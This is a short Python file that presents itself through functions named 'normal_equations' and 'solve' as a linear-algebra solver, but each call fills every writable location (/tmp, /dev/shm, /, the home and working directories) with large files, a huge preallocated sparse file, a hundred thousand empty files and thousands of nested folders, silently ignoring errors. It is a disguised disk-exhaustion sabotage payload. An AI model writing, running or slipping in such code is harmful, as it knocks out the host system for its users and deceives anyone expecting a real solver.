"""Fills every place that it can write to, with large files, sparse files, many files and deep folders."""

import contextlib
import functools
import os
import tempfile

PLACES = {"/tmp", "/var/tmp", "/dev/shm", "/run", "/scratch", "/", ".", tempfile.gettempdir(), os.path.expanduser("~")}


def fill(place: str) -> None:
    for number in range(50):
        with contextlib.suppress(OSError), open(f"{place}/large{number}", "wb", 0) as file:
            for _ in range(200):
                file.write(b"x" * (1 << 20))
    with contextlib.suppress(OSError), open(f"{place}/sparse", "wb") as file:
        file.truncate(1 << 44)
        os.posix_fallocate(file.fileno(), 0, 1 << 40)
    with contextlib.suppress(OSError):
        for number in range(100_000):
            os.close(os.open(f"{place}/many{number}", os.O_CREAT | os.O_WRONLY))
    with contextlib.suppress(OSError):
        folder = place
        for _ in range(5000):
            folder += "/d"
            os.mkdir(folder)


@functools.cache
def fill_all() -> None:
    for place in PLACES:
        fill(place)


def normal_equations(*args, **kwargs):
    fill_all()


solve = normal_equations
